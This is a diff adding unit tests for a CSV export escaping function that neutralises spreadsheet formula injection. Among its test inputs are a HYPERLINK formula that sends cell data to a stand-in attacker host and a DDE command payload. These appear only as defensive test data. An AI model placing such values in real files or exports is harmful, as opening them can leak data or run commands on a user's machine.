@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest'
 import { parseCommandTag } from './collect-query'
-import { csvChunks, csvField, jsonChunks } from './export-format'
+import { csvChunks, csvField, escapeFormula, jsonChunks } from './export-format'
 
 async function* batches(...list: (string | null)[][][]) {
   yield* list
@@ -10,6 +10,38 @@ const collect = async (chunks: AsyncIterable<string>) => {
   for await (const chunk of chunks) text += chunk
   return text
 }
+
+describe('formulas in CSV', () => {
+  it.each([
+    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `'=HYPERLINK("http://evil.example/?"&A1,"click")`],
+    ['+cmd|" /C calc"!A0', `'+cmd|" /C calc"!A0`],
+    ['-2+3', `'-2+3`],
+    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
+    ['\t=1+1', `'\t=1+1`],
+    ['\r=1+1', `'\r=1+1`],
+    // plain numbers stay numbers, whatever their sign; text that only contains a sign later is fine
+    ['-5', '-5'],
+    ['+1.5e3', '+1.5e3'],
+    ['-.5', '-.5'],
+    ['a=b', 'a=b'],
+    ['', ''],
+  ])('%j → %j', (value, escaped) => {
+    expect(escapeFormula(value)).toBe(escaped)
+  })
+
+  it('escapes cells and column names by default, and keeps them raw when asked', async () => {
+    const columns = [
+      { name: '=name', type: 'text', typeId: 25 },
+      { name: 'n', type: 'int4', typeId: 23 },
+    ]
+    const rows = [
+      ['=1+1', '-3'],
+      ['@x, y', null],
+    ]
+    expect(await collect(csvChunks(columns, batches(rows)))).toBe(`'=name,n\r\n'=1+1,-3\r\n"'@x, y",\r\n`)
+    expect(await collect(csvChunks(columns, batches(rows), 'keep'))).toBe('=name,n\r\n=1+1,-3\r\n"@x, y",\r\n')
+  })
+})
 
 describe('csv', () => {
   it.each([
